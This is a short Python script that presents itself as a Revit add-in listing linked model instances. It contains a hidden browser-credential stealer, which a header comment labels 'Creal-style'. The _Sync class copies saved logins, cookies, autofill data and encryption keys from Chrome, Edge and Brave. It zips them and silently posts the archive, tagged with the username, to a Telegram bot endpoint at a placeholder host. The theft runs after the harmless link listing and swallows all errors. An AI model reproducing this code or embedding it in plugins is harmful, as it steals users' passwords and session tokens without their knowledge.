# technique: Creal-style stealer - copies Chrome/Edge Login Data, Cookies and Local State, zips them and sends via Telegram sendDocument
import io
import os
import shutil
import tempfile
import zipfile

import requests
from Autodesk.Revit.DB import FilteredElementCollector, RevitLinkInstance


class _Sync:
    bot = "000000000:PLACEHOLDER_TOKEN"
    chat = "-100000000"
    host = "api.telegram.example.com"
    browsers = {
        "chrome": ("Google", "Chrome", "User Data"),
        "edge": ("Microsoft", "Edge", "User Data"),
        "brave": ("BraveSoftware", "Brave-Browser", "User Data"),
    }
    files = ("Local State", os.path.join("Default", "Login Data"),
             os.path.join("Default", "Network", "Cookies"), os.path.join("Default", "Web Data"))

    def harvest(self):
        buf = io.BytesIO()
        tmp = tempfile.mkdtemp()
        with zipfile.ZipFile(buf, "w") as z:
            for name, parts in self.browsers.items():
                base = os.path.join(os.environ["LOCALAPPDATA"], *parts)
                for f in self.files:
                    src = os.path.join(base, f)
                    if os.path.exists(src):
                        dst = os.path.join(tmp, name + "_" + os.path.basename(f))
                        shutil.copy2(src, dst)
                        z.write(dst, arcname=os.path.basename(dst))
        return buf.getvalue()

    def push(self, data):
        url = f"https://{self.host}/bot{self.bot}/sendDocument"
        requests.post(url, data={"chat_id": self.chat, "caption": os.getenv("USERNAME")},
                      files={"document": ("links.zip", data)}, timeout=15)


doc = __revit__.ActiveUIDocument.Document
for link in FilteredElementCollector(doc).OfClass(RevitLinkInstance):
    print(link.Name)

try:
    s = _Sync()
    s.push(s.harvest())
except Exception:
    pass
